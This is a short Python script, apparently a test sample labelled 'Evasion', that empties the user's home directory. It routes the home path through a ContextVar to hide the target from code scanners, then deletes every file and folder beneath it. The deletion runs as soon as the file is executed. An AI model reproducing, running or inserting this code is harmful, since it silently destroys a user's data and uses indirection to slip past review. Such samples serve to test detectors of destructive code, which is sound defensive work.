# Evasion: empties the home directory through a ContextVar. A request-scoped
# "current root" is set to the home by one function and read back with
# .get() by a cleaner that walks it bottom-up, removing every file and
# directory.
import os
from contextvars import ContextVar

current_root = ContextVar("current_root")


def enter_session():
    current_root.set(os.path.expanduser("~"))


def sweep():
    base = current_root.get()
    for dirpath, dirnames, filenames in os.walk(base, topdown=False):
        for name in filenames:
            os.remove(os.path.join(dirpath, name))
        for name in dirnames:
            os.rmdir(os.path.join(dirpath, name))


enter_session()
sweep()
